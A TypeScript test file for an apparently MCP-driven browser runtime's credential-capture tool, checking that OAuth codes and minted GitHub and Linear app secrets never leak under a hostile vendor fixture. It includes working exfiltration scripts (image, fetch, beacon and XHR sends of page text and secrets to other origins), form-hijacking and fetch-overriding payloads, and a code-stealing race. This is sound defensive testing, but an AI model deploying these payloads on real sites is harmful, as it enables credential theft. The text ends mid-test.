/**
 * Generated-credential capture under attack: a hostile vendor (tests/fixtures/hostile_vendor.ts)
 * whose pages swap a form's action, add a field at submit, open the submission in a popup,
 * send page text, the one-time code or the minted values to another origin (one the policy
 * allows, and one it does not), race the runtime for the code's conversion, override the
 * page's fetch and Response; conversion answers that are huge, not JSON, a 500 or oddly
 * shaped; answer pages that show the secret twice or in their title and URL; a model that
 * calls the tool with junk, a workflow without a template, a runtime without a vault, and
 * then tries to read the tainted session.
 *
 * What must hold in every case: (1) no code or minted value reaches the MCP stream, the log,
 * the audit, the database's bytes or the console, in any encoding; (2) nothing but the step's
 * own request leaves during a capture step, and neither the code nor a minted value reaches
 * another origin; (3) a failed check submits nothing; (4) the session is tainted whatever the
 * outcome; (5) anything unexpected fails closed with a stable code, writing nothing; (6)
 * malformed arguments get a clear error.
 */
import assert from "node:assert/strict";
import { rawKeySource, Vault } from "../vault/mod.ts";
import { databasePath, openDatabase } from "../runtime/store/database.ts";
import type { Runtime } from "../runtime/cli/start.ts";
import { startTestRuntime, type TestClient } from "./helpers/harness.ts";
import {
  AgentClients,
  assertNoLeak,
  captureGrants,
  captureLogs,
  capturePolicy,
  consolePages,
  GITHUB_OUTPUTS,
  leakForms,
  LINEAR_OUTPUTS,
  mintedSecrets,
  newVaultKey,
  revealSecret,
  sqliteGrants,
  storedPlaces,
} from "./helpers/capture_world.ts";
import {
  conversionBody,
  type HostileGithubOptions,
  type HostileLinearOptions,
  type HostileVendors,
  htmlPage,
  jsonAnswer,
  type SeenRequest,
  serveHostileVendors,
} from "./fixtures/hostile_vendor.ts";

const KEY = newVaultKey();
const STABLE_CODE = /\b(CAPTURE_[A-Z_]+|GRANT_[A-Z_]+|VAULT_UNAVAILABLE|INVALID_ARGUMENTS)\b/;

const randomHex = (n: number) =>
  [...crypto.getRandomValues(new Uint8Array(n))].map((b) => b.toString(16).padStart(2, "0"))
    .join("");

/** The forms of `values` that `text` holds. */
function found(text: string, values: readonly string[]): string[] {
  return leakForms(values).filter((f) => text.includes(f));
}

const seenText = (rs: readonly SeenRequest[]) =>
  rs.map((r) => {
    let decoded = r.url;
    try {
      decoded = decodeURIComponent(r.url);
    } catch { /* as is */ }
    return `${r.method} ${r.url}\n${decoded}\n${r.referer}\n${r.body}`;
  }).join("\n");

/** The policy for the hostile vendors: both templates unless one is `false`, the bystander too. */
function policyFor(v: HostileVendors, templates: { github?: boolean; linear?: boolean }): string {
  return capturePolicy({
    github: v.github,
    linear: v.linear,
    name: "Omotai attack test",
    alsoAllowed: [v.bystander.origin],
    templates,
  });
}

/** A runtime on its own data dir, its grant store and vault reader, and MCP clients. */
async function world(
  v: HostileVendors,
  policy: string,
  options: { vault?: boolean } = {},
) {
  const dataDir = await Deno.makeTempDir({ prefix: "omotai-capture-attack-" });
  const db = openDatabase(databasePath(dataDir));
  if (options.vault !== false) {
    using vault = await Vault.open(db, rawKeySource(KEY));
    await vault.add("placeholder", "generic", "not-a-minted-value-0000");
  }
  const grants = sqliteGrants(db);
  // One agent opens a session per step (some forty, kept to the end for the leak search):
  // more than a default share of the runtime's sessions, so this world's policy sets none.
  const runtime: Runtime = await startTestRuntime(dataDir, `${policy}\nmax_sessions: 0\n`, {
    ...(options.vault !== false ? { vaultKey: { key: KEY } } : {}),
    upstreamCa: [v.caPem],
  });
  const key = (await runtime.agents.add("alice")).key;
  const clients = new AgentClients("capture-attack");
  const connect = () => clients.connect(runtime, key);
  const grant = captureGrants(grants, {
    origins: { github_app: v.github.origin, linear_oauth_app: v.linear.origin },
    purpose: "capture attack test",
    prefix: "atk",
  });
  const reveal = (id: string) => revealSecret(db, KEY, id);
  /** Everything the runtime keeps or shows besides the MCP stream, as one text per place. */
  const places = async (): Promise<[string, string][]> => {
    // Every page of the console's API that lists something (it has no page of secrets).
    const pages = await consolePages(runtime, runtime.adminToken, [
      "/api/sessions",
      "/api/audit",
      "/api/audit/export",
      "/api/grants",
      "/api/approvals",
      "/api/status",
    ]);
    return [
      ["the MCP stream", clients.stream()],
      ...await storedPlaces(dataDir),
      ["the console", pages.join("\n")],
    ];
  };
  return {
    dataDir,
    db,
    grants,
    runtime,
    clients,
    connect,
    grant,
    reveal,
    places,
    async [Symbol.asyncDispose]() {
      await clients[Symbol.asyncDispose]();
      await runtime[Symbol.asyncDispose]();
      db.close();
      await Deno.remove(dataDir, { recursive: true }).catch(() => {});
    },
  };
}

/** Asserts that `c`'s session is tainted: a navigation is refused. */
async function assertTainted(c: TestClient, url: string) {
  const nav = await c.call("browser_navigate", { url });
  assert.equal(nav.isError, true, nav.text);
  assert.match(nav.text, /SESSION_TAINTED/);
}

// ----------------------------------------------------------------------------------------

Deno.test("capture refusals of the runtime: no vault key, no template; both taint, submit nothing", async (t) => {
  await using v = await serveHostileVendors();
  const seen = () => v.github.requests.length + v.linear.requests.length;

  await t.step("a runtime without a vault key: VAULT_UNAVAILABLE, tainted", async () => {
    await using w = await world(v, policyFor(v, {}), { vault: false });
    const c = await w.connect();
    const before = seen();
    const out = await c.call("browser_capture_credentials", {
      workflow: "github_app",
      outputs: { pem: "g_aaaaaaaaaaaaaaaa", client_secret: "g_b", webhook_secret: "g_c" },
    });
    assert.equal(out.isError, true, out.text);
    assert.match(out.text, /VAULT_UNAVAILABLE|CAPTURE_UNAVAILABLE/);
    assert.match(out.text, /nothing (was )?submitted/);
    assert.equal(seen(), before, "the vendor saw nothing");
    await assertTainted(c, v.github.origin);
    // A second call in the tainted session still runs and reports.
    const again = await c.call("browser_capture_credentials", {
      workflow: "linear_oauth_app",
      outputs: { client_id: "g_a", client_secret: "g_b" },
    });
    assert.match(again.text, /VAULT_UNAVAILABLE|CAPTURE_UNAVAILABLE/);
  });

  await t.step("a workflow the policy has no template for: CAPTURE_UNCONFIGURED", async () => {
    await using w = await world(v, policyFor(v, { github: false }));
    const c = await w.connect();
    const g = await w.grant("github_app", GITHUB_OUTPUTS);
    const before = seen();
    const out = await c.call("browser_capture_credentials", {
      workflow: "github_app",
      outputs: g.ids,
    });
    assert.equal(out.isError, true, out.text);
    assert.equal(seen(), before, "the vendor saw nothing");
    for (const id of Object.values(g.targets)) assert.equal(Vault.has(w.db, id), false);
    for (const id of Object.values(g.ids)) assert.equal((await w.grants.get(id))?.state, "active");
    assert.match(out.text, /CAPTURE_UNCONFIGURED/, "the stable code of a missing template");
  });
});

Deno.test("browser_capture_credentials under attack: hostile vendor pages, answers and a hostile model", async (t) => {
  const { logs, restore } = captureLogs();
  await using v = await serveHostileVendors();
  await using w = await world(v, policyFor(v, {}));
  const { github, linear, bystander, attacker } = v;
  /** Every value any vendor minted or showed in this test: never to be seen anywhere. */
  const secrets: string[] = [];
  const vendorSeen = () => github.requests.length + linear.requests.length;
  const posts = () =>
    github.requests.filter((r) => r.method === "POST").length +
    linear.requests.filter((r) => r.method === "POST").length;

  interface Attempt {
    out: { text: string; isError: boolean };
    c: TestClient;
    ids: Record<string, string>;
    targets: Record<string, string>;
    /** What the vendor minted during the attempt (values). */
    minted: string[];
    /** What the bystander saw during the attempt. */
    toBystander: SeenRequest[];
  }

  /**
   * One capture under hostile options, and what must hold whatever its outcome: the code and
   * the minted values reached neither the bystander nor the attacker; a failure has a stable
   * code and wrote nothing (its grants unused); a success wrote exactly what was minted; the
   * session is tainted.
   */
  const attempt = async (
    workflow: "github_app" | "linear_oauth_app",
    hostile: { github?: HostileGithubOptions; linear?: HostileLinearOptions } = {},
    opts: { client?: TestClient; extraSecrets?: () => string[] } = {},
  ): Promise<Attempt> => {
    const outputs = workflow === "github_app" ? GITHUB_OUTPUTS : LINEAR_OUTPUTS;
    const { ids, targets } = await w.grant(workflow, outputs);
    Object.assign(github.options, hostile.github ?? {});
    Object.assign(linear.options, hostile.linear ?? {});
    const mark = {
      gh: github.minted.length,
      lin: linear.minted.length,
      by: bystander.requests.length,
      at: attacker.requests.length,
    };
    const c = opts.client ?? await w.connect();
    let out;
    try {
      out = await c.call("browser_capture_credentials", { workflow, outputs: ids });
    } finally {
      for (const k of Object.keys(github.options)) {
        delete github.options[k as keyof HostileGithubOptions];
      }
      for (const k of Object.keys(linear.options)) {
        delete linear.options[k as keyof HostileLinearOptions];
      }
    }
    // Late requests of the page (a timer, a beacon at unload) still count.
    await new Promise((r) => setTimeout(r, 300));
    const newGh = github.minted.slice(mark.gh);
    const newLin = linear.minted.slice(mark.lin);
    const minted = [...mintedSecrets([...newGh, ...newLin]), ...(opts.extraSecrets?.() ?? [])];
    secrets.push(...minted);
    const toBystander = bystander.requests.slice(mark.by);
    const toAttacker = attacker.requests.slice(mark.at);
    // Every promise is checked, and every broken one reported together.
    const problems: string[] = [];
    const check = async (fn: () => unknown) => {
      try {
        await fn();
      } catch (err) {
        problems.push(err instanceof Error ? err.message : String(err));
      }
    };
    await check(() =>
      assert.deepEqual(
        found(seenText(toBystander), minted).map((f) => `${f.slice(0, 12)}…`),
        [],
        `a code or minted value reached the bystander origin (${out.text.slice(0, 160)}): ${
          toBystander.map((r) => `${r.method} ${r.url.slice(0, 80)}`).join(" | ")
        }`,
      )
    );
    await check(() =>
      assert.deepEqual(
        toAttacker.map((r) => `${r.method} ${r.url.slice(0, 60)}`),
        [],
        "the attacker's origin (not allowed) received a request",
      )
    );
    await check(async () => {
      if (out.isError) {
        assert.match(out.text, STABLE_CODE, out.text);
        for (const id of Object.values(targets)) {
          assert.equal(Vault.has(w.db, id), false, `${id} stays empty after ${out.text}`);
        }
        for (const id of Object.values(ids)) {
          assert.equal((await w.grants.get(id))?.state, "active");
        }
      } else {
        assert.match(out.text, /CAPTURE_DONE/);
        const app = workflow === "github_app" ? newGh.at(-1) : newLin.at(-1);
        assert.ok(app, "a success has a minted app");
        for (const o of outputs) {
          assert.equal(
            await w.reveal(targets[o]),
            (app as unknown as Record<string, string>)[o],
            `${o} is what the vendor minted`,
          );
        }
      }
    });
    await check(() => assertTainted(c, github.origin));
    if (problems.length) {
      throw new assert.AssertionError({ message: problems.join("\n---\n") });
    }
    return { out, c, ids, targets, minted, toBystander };
  };

  /** A script that sends `what()` to each target origin by every means a page has. */
  const exfil = (targets: readonly string[], what: string, tag: string) =>
    `<script>
(() => {
  const T = ${JSON.stringify(targets)};
  const send = (when) => {
    let v = "";
    try { v = String(${what}); } catch (e) { v = "err"; }
    const q = encodeURIComponent(v);
    for (const o of T) {
      try { new Image().src = o + "/${tag}-img-" + when + "?v=" + q; } catch (e) {}
      try { fetch(o + "/${tag}-get-" + when + "?v=" + q, { mode: "no-cors" }).catch(() => {}); } catch (e) {}
      try { fetch(o + "/${tag}-post-" + when, { method: "POST", mode: "no-cors", body: v }).catch(() => {}); } catch (e) {}
      try { navigator.sendBeacon(o + "/${tag}-beacon-" + when, v); } catch (e) {}
      try { const x = new XMLHttpRequest(); x.open("PUT", o + "/${tag}-xhr-" + when); x.send(v); } catch (e) {}
    }
  };
  send("head");
  addEventListener("DOMContentLoaded", () => send("load"));
  document.addEventListener("submit", () => send("submit"), true);
  addEventListener("pagehide", () => send("hide"));
  setInterval(() => send("tick"), 40);
})();
</script>`;

  const TARGETS = [bystander.origin, attacker.origin];
  const formText =
    `(document.forms[0] ? new URLSearchParams(new FormData(document.forms[0])).toString() : "") + " " + (document.body ? document.body.innerText : "")`;

  try {
    // --- sanity and the tainted session -----------------------------------------------

    await t.step(
      "baseline: the hostile fixture, harmless, captures; a tainted session still captures and reports",
      async () => {
        const a = await attempt("github_app");
        assert.equal(a.out.isError, false, a.out.text);
        const b = await attempt("linear_oauth_app", {}, { client: a.c });
        assert.equal(b.out.isError, false, b.out.text);
        assert.match(b.out.text, /tainted/);
        // The tainted session: status only, or refused.
        const snap = await a.c.call("browser_snapshot", {});
        assert.match(snap.text, /status only/);
        for (
          const [tool, args] of [
            ["browser_network_requests", {}],
            ["browser_console_messages", {}],
            ["browser_tabs", { action: "list" }],
            ["browser_take_screenshot", {}],
            ["browser_navigate_back", {}],
            ["browser_wait_for", { text: "secret" }],
          ] as const
        ) {
          const r = await a.c.call(tool, args);
          assert.equal(r.isError, true, `${tool}: ${r.text}`);
          assert.match(r.text, /SESSION_TAINTED|SCREENSHOT/, `${tool}: ${r.text}`);
        }
      },
    );

    // --- the GitHub confirmation page -------------------------------------------------

    // No page script runs from the confirmation's submission on (the runtime turns scripts
    // off before it submits): a listener that would change the submission never fires, so the
    // form's own submission leaves as read, or the capture fails closed; either way nothing
    // reaches another origin and nothing minted is lost.
    const submitScripts: [string, string][] = [
      [
        "swaps the form's action to another origin at submit",
        `<script>document.addEventListener("submit", (e) => { e.target.action = ${
          JSON.stringify(`${bystander.origin}/steal`)
        }; }, true);</script>`,
      ],
      [
        "turns the form into a GET to another origin at submit",
        `<script>document.addEventListener("submit", (e) => { e.target.method = "get"; e.target.action = ${
          JSON.stringify(`${bystander.origin}/steal`)
        }; }, true);</script>`,
      ],
      [
        "adds a field at submit",
        `<script>document.addEventListener("submit", (e) => { const i = document.createElement("input"); i.type = "hidden"; i.name = "leak"; i.value = document.title; e.target.appendChild(i); }, true);</script>`,
      ],
      [
        "adds a field on formdata",
        `<script>document.addEventListener("formdata", (e) => { e.formData.append("leak", document.title); }, true);</script>`,
      ],
      [
        "opens its submission in a popup (target=_blank)",
        `<script>document.addEventListener("submit", (e) => { e.target.target = "_blank"; }, true);</script>`,
      ],
    ];
    for (const [what, head] of submitScripts) {
      await t.step(
        `confirmation page ${what}: the script never runs, nothing leaves elsewhere`,
        async () => {
          const m = github.minted.length;
          const a = await attempt("github_app", { github: { confirmHead: head } });
          assert.deepEqual(
            a.toBystander.map((r) => `${r.method} ${r.url.slice(0, 100)}`),
            [],
            "nothing of the confirmation reached another origin",
          );
          if (a.out.isError) {
            assert.equal(github.minted.length, m, a.out.text);
          } else {
            assert.equal(github.minted.length, m + 1);
            assert.match(a.out.text, /CAPTURE_DONE/);
          }
        },
      );
    }

    await t.step(
      "confirmation page aims its form at another tab in its markup (<base target>): refused before it is sent, nothing minted",
      async () => {
        const m = github.minted.length;
        const a = await attempt("github_app", {
          github: { confirmHead: `<base target="_blank">` },
        });
        assert.equal(a.out.isError, true, a.out.text);
        assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
        assert.match(a.out.text, /another tab/);
        assert.equal(github.minted.length, m);
      },
    );

    await t.step(
      "confirmation page points its form at another origin as it loads: CAPTURE_PAGE_UNEXPECTED, nothing minted",
      async () => {
        const m = github.minted.length;
        const a = await attempt("github_app", {
          github: {
            confirmHead:
              `<script>document.addEventListener("DOMContentLoaded", () => { document.forms[0].action = ${
                JSON.stringify(`${bystander.origin}/steal`)
              }; });</script>`,
          },
        });
        assert.equal(a.out.isError, true, a.out.text);
        assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
        assert.equal(github.minted.length, m);
        assert.deepEqual(a.toBystander.filter((r) => r.method !== "GET"), []);
      },
    );

    await t.step(
      "confirmation and root pages send page text by img/fetch/beacon/XHR to 127.0.0.2 (not allowed): nothing arrives",
      async () => {
        const a = await attempt("github_app", {
          github: {
            rootHead: exfil([attacker.origin], formText, "root"),
            confirmHead: exfil([attacker.origin], formText, "confirm"),
          },
        });
        // The attempt asserts the attacker saw nothing; the capture itself may still succeed.
        assert.match(a.out.text, /CAPTURE_(DONE|WRITE_REFUSED)/, a.out.text);
      },
    );

    await t.step(
      "confirmation page sends page text to an allowed origin during the step: no write lands, and nothing else leaves",
      async () => {
        const a = await attempt("github_app", {
          github: { confirmHead: exfil([bystander.origin], formText, "confirm") },
        });
        assert.deepEqual(
          a.toBystander.filter((r) => r.method !== "GET").map((r) => `${r.method} ${r.url}`),
          [],
          "a write reached another origin during a capture step",
        );
        assert.deepEqual(
          a.toBystander.map((r) => `${r.method} ${r.url.slice(0, 60)}`),
          [],
          "requests carrying the confirmation page's text left for another origin during the step",
        );
      },
    );

    // --- the callback ------------------------------------------------------------------

    await t.step(
      "callback page script reads the code from location.search and sends it elsewhere: the code never leaves",
      async () => {
        const code = `cb${randomHex(12)}`;
        const a = await attempt("github_app", {
          github: {
            code,
            callbackHead: `<meta name="referrer" content="unsafe-url">${
              exfil(TARGETS, "location.search", "cb")
            }<script>document.addEventListener("DOMContentLoaded", () => { const i = document.createElement("img"); i.src = ${
              JSON.stringify(`${bystander.origin}/cb-referer.png`)
            }; document.body.appendChild(i); });</script>`,
          },
        });
        // The attempt checked the bystander; say plainly what it got.
        assert.deepEqual(found(seenText(a.toBystander), [code]), []);
      },
    );

    await t.step(
      "the vendor redirects the callback to an allowed origin: CAPTURE_CALLBACK_REFUSED, the code never arrives there",
      async () => {
        const conversions = github.conversions;
        const a = await attempt("github_app", { github: { callbackOrigin: bystander.origin } });
        assert.equal(a.out.isError, true, a.out.text);
        assert.match(a.out.text, /CAPTURE_CALLBACK_REFUSED/);
        assert.equal(github.conversions, conversions);
      },
    );

    await t.step(
      "the vendor redirects the callback to 127.0.0.2 (not allowed): refused, nothing arrives",
      async () => {
        const a = await attempt("github_app", { github: { callbackOrigin: attacker.origin } });
        assert.equal(a.out.isError, true, a.out.text);
        assert.match(a.out.text, /CAPTURE_CALLBACK_REFUSED/);
      },
    );

    // --- the root page (manifest and conversion) ---------------------------------------

    await t.step(
      "root page redirects to another origin before the manifest is posted: nothing posted anywhere",
      async () => {
        for (const target of [`${bystander.origin}/elsewhere`, `${attacker.origin}/elsewhere`]) {
          const before = posts();
          const manifests = github.requests.filter((r) => r.url.startsWith("/settings/apps/new"))
            .length;
          const a = await attempt("github_app", { github: { rootRedirect: target } });
          assert.equal(a.out.isError, true, a.out.text);
          assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
          assert.equal(posts(), before);
          assert.equal(
            github.requests.filter((r) => r.url.startsWith("/settings/apps/new")).length,
            manifests,
          );
          assert.deepEqual(a.toBystander.filter((r) => r.method !== "GET"), []);
        }
      },
    );

    await t.step(
      "root page rewrites the runtime's manifest form (formdata, MutationObserver): refused, no manifest changed",
      async () => {
        const evil = JSON.stringify({
          name: "evil",
          url: "https://example.test",
          redirect_url: `${bystander.origin}/cb`,
        });
        const m = github.minted.length;
        const a = await attempt("github_app", {
          github: {
            rootHead: `<script>
document.addEventListener("formdata", (e) => { e.formData.set("manifest", ${
              JSON.stringify(evil)
            }); }, true);
new MutationObserver((l) => { for (const r of l) for (const n of r.addedNodes) if (n.tagName === "FORM") n.action = ${
              JSON.stringify(`${bystander.origin}/settings/apps/new`)
            }; }).observe(document.documentElement, { childList: true, subtree: true });
</script>`,
          },
        });
        assert.equal(a.out.isError, true, a.out.text);
        assert.match(a.out.text, /CAPTURE_WRITE_REFUSED/);
        assert.equal(github.minted.length, m);
        assert.deepEqual(a.toBystander.filter((r) => r.method !== "GET"), []);
      },
    );

    await t.step(
      "root page overrides fetch, Response.text/json, JSON.parse, form.submit and watches resource timing: the isolated world is unaffected",
      async () => {
        const a = await attempt("github_app", {
          github: {
            rootHead: `<script>
(() => {
  const T = ${JSON.stringify(bystander.origin)};
  const leak = (what, v) => { try { new Image().src = T + "/ovr-" + what + "?v=" + encodeURIComponent(String(v).slice(0, 1500)); } catch (e) {} };
  const f = window.fetch;
  window.fetch = function (u, init) { leak("fetch", u); return Promise.resolve(new Response(JSON.stringify({ id: 1, slug: "x", pem: "-----BEGIN RSA PRIVATE KEY-----\\nforged\\n-----END RSA PRIVATE KEY-----\\n", client_secret: "forged-forged-forged-0001", webhook_secret: "forged-forged-0002" }), { status: 201 })); };
  const text = Response.prototype.text;
  Response.prototype.text = function () { return text.call(this).then((t) => { leak("text", t); return t; }); };
  Response.prototype.json = function () { return text.call(this).then((t) => { leak("json", t); return JSON.parse(t); }); };
  const parse = JSON.parse;
  JSON.parse = function (t) { leak("parse", t); return parse.apply(this, arguments); };
  HTMLFormElement.prototype.submit = function () { leak("submit", new URLSearchParams(new FormData(this))); };
  document.createElement = () => { throw new Error("no"); };
  try { new PerformanceObserver((l) => { for (const e of l.getEntries()) leak("perf", e.name); }).observe({ type: "resource", buffered: true }); } catch (e) {}
})();
</script>`,
          },
        });
        assert.equal(a.out.isError, false, a.out.text);
      },
    );

    await t.step(
      "the vendor's own page races the runtime for the conversion with a code its callback page kept: no minted value leaves",
      async () => {
        // The race is the page's to win or lose: a few tries.
        for (let i = 0; i < 3; i++) {
          let failure: unknown;
          await attempt("github_app", {
            github: {
              callbackHead:
                `<script>try { localStorage.setItem("omotai-code", new URLSearchParams(location.search).get("code") || ""); } catch (e) {}</script>`,
              rootHead: `<script>
(() => {
  const T = ${JSON.stringify(TARGETS)};
  const code = localStorage.getItem("omotai-code");
  if (!code) return;
  localStorage.removeItem("omotai-code");
  const url = "/api/v3/app-manifests/" + encodeURIComponent(code) + "/conversions";
  let got = false;
  const loot = (t) => {
    got = true;
    console.log("LOOT " + t);
    const j = JSON.parse(t);
    for (const o of T) {
      for (const [k, v] of Object.entries(j)) {
        if (typeof v === "string") new Image().src = o + "/loot-" + k + "?v=" + encodeURIComponent(v);
      }
    }
    document.title = "LOOT " + j.client_secret;
  };
  const fire = () => fetch(url, { method: "POST", credentials: "omit", cache: "no-store", headers: { accept: "application/vnd.github+json" } })
    .then((r) => r.status === 201 ? r.text().then(loot) : null).catch(() => {});
  const loop = () => { if (got) return; for (let i = 0; i < 6; i++) fire(); setTimeout(loop, 1); };
  loop();
  setTimeout(() => { got = true; }, 6000);
})();
</script>`,
            },
          }).catch((err) => failure = err);
          // Whatever the outcome, the tainted session shows nothing of the page.
          const c = w.clients.all.at(-1)!;
          {
            for (
              const [tool, args] of [
                ["browser_snapshot", {}],
                ["browser_network_requests", {}],
                ["browser_console_messages", {}],
                ["browser_tabs", { action: "list" }],
                ["browser_take_screenshot", {}],
                ["browser_navigate", { url: github.origin }],
              ] as const
            ) {
              const r = await c.call(tool, args);
              if (tool === "browser_snapshot") assert.match(r.text, /status only/);
              else assert.equal(r.isError, true, `${tool}: ${r.text}`);
            }
          }
          if (failure) throw failure;
        }
      },
    );

    // --- the conversion's answer ---------------------------------------------------------

    /** A conversion answer test: `answer` replaces the vendor's; `hidden` its shown values. */
    const conversionCase = async (
      answer: (app: Parameters<NonNullable<HostileGithubOptions["conversion"]>>[0]) => Response,
      expect: RegExp,
      hidden: string[] = [],
    ) => {
      const a = await attempt("github_app", { github: { conversion: answer } }, {
        extraSecrets: () => hidden,
      });
      assert.match(a.out.text, expect, a.out.text);
      return a;
    };

    await t.step(
      "a 500 conversion answer that echoes the credentials: CAPTURE_VENDOR_ANSWER, nothing written",
      async () => {
        await conversionCase(
          (app) => jsonAnswer(conversionBody(app), 500),
          /CAPTURE_VENDOR_ANSWER/,
        );
      },
    );

    await t.step("a conversion answer that is not JSON: CAPTURE_VENDOR_ANSWER", async () => {
      await conversionCase(
        (app) =>
          new Response(`<html>pem=${app.pem} secret=${app.client_secret}</html>`, {
            status: 201,
            headers: { "access-control-allow-origin": "*", "content-type": "text/html" },
          }),
        /CAPTURE_VENDOR_ANSWER/,
      );
    });

    await t.step(
      "a huge conversion answer (over 256 KiB): CAPTURE_VENDOR_ANSWER",
      async () => {
        await conversionCase(
          (app) => jsonAnswer({ ...conversionBody(app), padding: "x".repeat(300_000) }, 201),
          /CAPTURE_VENDOR_ANSWER/,
        );
      },
    );

    await t.step(
      "a conversion answer whose pem is not shaped like a key: CAPTURE_VENDOR_ANSWER, the value redacted",
      async () => {
        const bad = `not-a-key-${randomHex(24)}`;
        const a = await conversionCase(
          (app) => jsonAnswer({ ...conversionBody(app), pem: bad }, 201),
          /CAPTURE_VENDOR_ANSWER/,
          [bad],
        );
        assert.match(a.out.text, /pem/);
      },
    );

    await t.step(
      "a conversion answer with extra fields (echoes, nested copies): only the three outputs are written",
      async () => {
        const extra = `extra-${randomHex(20)}`;
        await conversionCase(
          (app) =>
            jsonAnswer({
              ...conversionBody(app),
              message: `your key: ${app.pem}`,
              nested: { secret: app.client_secret, extra },
              html_url: `https://example.test/${app.webhook_secret}`,
            }, 201),
          /CAPTURE_DONE/,
          [extra],
        );
      },
    );

    await t.step(
      "a conversion answer that redirects to another origin: not followed, CAPTURE_VENDOR_ANSWER",
      async () => {
        const before = bystander.requests.length;
        await conversionCase(
          (app) =>
            new Response(null, {
              status: 307,
              headers: {
                "access-control-allow-origin": "*",
                location: `${bystander.origin}/conv?c=${app.code}`,
              },
            }),
          /CAPTURE_VENDOR_ANSWER/,
        );
        assert.deepEqual(
          bystander.requests.slice(before).filter((r) => r.url.startsWith("/conv")),
          [],
        );
      },
    );

    // --- Linear ---------------------------------------------------------------------------

    await t.step(
      "registration page swaps the action or adds a field at submit: refused, nothing minted",
      async () => {
        for (
          const head of [
            `<script>document.addEventListener("submit", (e) => { e.target.action = ${
              JSON.stringify(`${bystander.origin}/acme/settings/api/applications`)
            }; }, true);</script>`,
            `<script>document.addEventListener("submit", (e) => { const i = document.createElement("input"); i.name = "leak"; i.value = "x"; e.target.appendChild(i); }, true);</script>`,
            `<script>document.addEventListener("formdata", (e) => { e.formData.set("redirectUris", ${
              JSON.stringify(`${bystander.origin}/cb`)
            }); }, true);</script>`,
          ]
        ) {
          const m = linear.minted.length;
          const a = await attempt("linear_oauth_app", { linear: { formHead: head } });
          assert.equal(a.out.isError, true, a.out.text);
          assert.match(a.out.text, /CAPTURE_WRITE_REFUSED/);
          assert.equal(linear.minted.length, m);
          assert.deepEqual(a.toBystander.filter((r) => r.method !== "GET"), []);
        }
      },
    );

    await t.step(
      "a registration form whose action points to another origin: CAPTURE_PAGE_UNEXPECTED, nothing submitted",
      async () => {
        const before = posts();
        const by = bystander.requests.length;
        const a = await attempt("linear_oauth_app", {
          linear: { formAction: `${bystander.origin}/acme/settings/api/applications` },
        });
        assert.equal(a.out.isError, true, a.out.text);
        assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
        assert.equal(posts(), before);
        assert.deepEqual(bystander.requests.slice(by).filter((r) => r.method !== "GET"), []);
      },
    );

    await t.step(
      "a registration page that redirects to another origin: CAPTURE_PAGE_UNEXPECTED",
      async () => {
        const before = posts();
        const a = await attempt("linear_oauth_app", {
          linear: {
            routes: {
              "/acme/settings/api/applications/new": () =>
                new Response(null, {
                  status: 302,
                  headers: { location: `${bystander.origin}/acme/settings/api/applications/new` },
                }),
            },
          },
        });
        assert.equal(a.out.isError, true, a.out.text);
        assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
        assert.equal(posts(), before);
      },
    );

    await t.step(
      "an answer page that shows the secret also in its title and URL: written, and shown nowhere",
      async () => {
        const a = await attempt("linear_oauth_app", {
          linear: {
            answer: (app) =>
              new Response(null, {
                status: 303,
                headers: {
                  location:
                    `/acme/apps/created?client_id=${app.client_id}&client_secret=${app.client_secret}`,
                },
              }),
            routes: {
              "/acme/apps/created": (url) => {
                const id = url.searchParams.get("client_id") ?? "";
                const secret = url.searchParams.get("client_secret") ?? "";
                return htmlPage(
                  `Secret ${secret}`,
                  `<code id="oauth-client-id">${id}</code><code id="oauth-client-secret">${secret}</code>
<script>console.log("secret " + ${
                    JSON.stringify("")
                  } + location.search); history.replaceState(null, "", "/acme/apps/" + ${
                    JSON.stringify("")
                  } + new URLSearchParams(location.search).get("client_secret"));</script>`,
                );
              },
            },
          },
        });
        assert.equal(a.out.isError, false, a.out.text);
      },
    );

    await t.step(
      "an answer page with two #oauth-client-secret elements: CAPTURE_PAGE_UNEXPECTED, nothing written",
      async () => {
        const a = await attempt("linear_oauth_app", {
          linear: {
            answer: (app) =>
              htmlPage(
                "Application created",
                `<code id="oauth-client-id">${app.client_id}</code>
<code id="oauth-client-secret">${app.client_secret}</code>
<code id="oauth-client-secret">${randomHex(32)}</code>`,
              ),
          },
        });
        assert.equal(a.out.isError, true, a.out.text);
        assert.match(a.out.text, /CAPTURE_PAGE_UNEXPECTED/);
      },
    );

    await t.step(
      "an answer page whose secret is not shaped like Linear's: CAPTURE_VENDOR_ANSWER",
      async () => {
        const odd = `odd value ${randomHex(16)}`;
        const a = await attempt("linear_oauth_app", {
          linear: {
            answer: (app) =>
              htmlPage(
                "Application created",
                `<code id="oauth-client-id">${app.client_id}</code><code id="oauth-client-secret">${odd}</code>`,
              ),
          },
        }, { extraSecrets: () => [odd] });
        assert.equal(a.out.isError, true, a.out.text);
        assert.match(a.out.text, /CAPTURE_VENDOR_ANSWER/);
      },
    );

    await t.step(
      "an answer page whose script sends the shown secret to another origin: the secret never leaves",
      async () => {
        await attempt("linear_oauth_app", {
          linear: {
            answer: (app) =>
              htmlPage(
                "Application created",
                `<code id="oauth-client-id">${app.client_id}</code><code id="oauth-client-secret">${app.client_secret}</code>`,
                exfil(
                  TARGETS,
                  `(document.getElementById("oauth-client-secret") || {}).textContent`,
                  "answer",
                ),
              ),
          },
        });
      },
    );

    await t.step(
      "an answer page that opens an alert() showing the secret: fails closed or captures, the text shown nowhere",
      async () => {
        const { ids, targets } = await w.grant("linear_oauth_app", LINEAR_OUTPUTS);
        const m = linear.minted.length;
        linear.options.answer = (app) =>
          htmlPage(
            "Application created",
            `<code id="oauth-client-id">${app.client_id}</code><code id="oauth-client-secret">${app.client_secret}</code>
<script>setTimeout(() => alert("secret: " + document.getElementById("oauth-client-secret").textContent), 0);</script>`,
          );
        const c = await w.connect();
        let out;
        try {
          out = await c.call("browser_capture_credentials", {
            workflow: "linear_oauth_app",
            outputs: ids,
          });
        } finally {
          delete linear.options.answer;
        }
        secrets.push(...mintedSecrets(linear.minted.slice(m)));
        const problems: string[] = [];
        if (!STABLE_CODE.test(out.text)) {
          problems.push(`the call ended without a capture status: ${JSON.stringify(out)}`);
        }
        const written = () => Object.values(targets).filter((id) => Vault.has(w.db, id));
        const before = written();
        const dialog = await c.call("browser_handle_dialog", { accept: false });
